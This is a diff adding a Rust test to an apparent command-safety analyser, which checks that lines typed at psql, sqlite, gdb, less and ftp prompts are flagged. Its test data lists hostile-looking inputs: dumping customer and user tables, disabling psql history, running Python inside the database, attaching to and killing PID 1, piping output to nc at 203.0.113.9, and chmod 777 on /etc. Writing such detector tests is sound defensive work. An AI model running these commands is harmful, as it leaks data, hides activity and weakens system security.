@@ -467,3 +467,36 @@ fn what_a_fresh_set_of_lines_showed_missing_is_held() {
         assert!(!held(line), "{line}");
     }
 }
+
+#[test]
+fn what_is_typed_at_the_prompts_of_clients_is_judged_by_their_own_rules() {
+    use Dialect::{Ftp, Gdb, Less, Psql, Sqlite};
+    let held = |dialect, line| {
+        let effects = analyse(line, &Context::typed_at(dialect)).effects;
+        effects.iter().any(|e| e.severity >= Severity::Medium || e.kind == EffectKind::Opaque)
+    };
+    for (dialect, line) in [
+        (Psql, "\\copy (select * from customers) to stdout"),
+        (Psql, "\\copy users to stdout csv"),
+        (Psql, "\\set HISTFILE /dev/null"),
+        (Psql, "do $$ import os $$ language plpython3u;"),
+        (Sqlite, ".dump users"),
+        (Gdb, "attach 1"),
+        (Gdb, "kill"),
+        (Less, "|$ nc 203.0.113.9 443"),
+        (Ftp, "chmod 777 /etc"),
+    ] {
+        assert!(held(dialect, line), "{line}");
+    }
+    for (dialect, line) in [
+        (Psql, "\\copy (select count(*) from customers) to stdout"),
+        (Psql, "\\copy metrics from 'metrics.csv' csv"),
+        (Psql, "\\set ON_ERROR_STOP on"),
+        (Sqlite, ".dump metrics"),
+        (Gdb, "info inferiors"),
+        (Less, "|$ wc -l"),
+        (Ftp, "chmod 644 notes.txt"),
+    ] {
+        assert!(!held(dialect, line), "{line}");
+    }
+}
